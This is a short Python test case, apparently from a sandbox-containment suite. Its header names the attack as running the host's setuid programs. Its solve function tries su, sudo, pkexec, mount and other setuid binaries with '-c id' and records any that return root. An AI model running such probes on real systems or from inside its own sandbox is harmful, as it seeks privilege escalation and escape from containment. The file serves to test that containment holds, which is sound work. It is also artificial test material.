# task: data_many
# attack: run the host's setuid programs
# contained-at: namespaces restricted
# expect: deserved-or-not-ok
import os
import stat
import subprocess

from kit import *


def solve(instance):
    for path in ("/bin/su", "/usr/bin/su", "/usr/bin/sudo", "/usr/bin/passwd", "/usr/bin/mount", "/usr/bin/newgrp",
                 "/usr/bin/chsh", "/usr/bin/pkexec", "/usr/bin/newuidmap", "/usr/lib/openssh/ssh-keysign"):
        with quietly():
            if not os.stat(path).st_mode & stat.S_ISUID:
                continue
            done = subprocess.run([path, "-c", "id"], stdin=subprocess.DEVNULL, capture_output=True, timeout=1)
            if b"uid=0" in done.stdout + done.stderr:
                got(f"{path}: {done.stdout}")
    return answer(instance)
